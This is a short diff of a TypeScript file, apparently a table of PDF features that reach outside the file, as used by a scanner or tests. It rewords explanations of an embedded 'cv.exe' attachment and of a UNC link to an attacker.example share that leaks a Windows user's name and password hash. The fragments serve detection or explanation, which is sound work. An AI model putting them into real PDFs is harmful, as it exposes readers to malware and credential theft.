@@ -29,9 +29,9 @@ const embedded = stream(
 const file = '<< /Type /Filespec /F (cv.exe) /UF (cv.exe) /EF << /F 9 0 R >> /AFRelationship /Data >>';
 const attached = { 8: file, 9: embedded };
 const share = '(\\\\\\\\attacker.example\\\\share\\\\cv.pdf)';
-const saved = 'Acrobat offers the program to whoever opens the file.';
+const saved = 'Acrobat offers the program to the person who opens the file.';
 const asks =
-  'Windows answers the share of a stranger with the name and the hashed password of whoever opens the file.';
+  'Windows answers the share of a stranger with the name and the hashed password of the person who opens the file.';
 
 /** What starts a program, fetches from elsewhere, sends away or carries another file. */
 export const pdfReachingOut: readonly Row[] = [
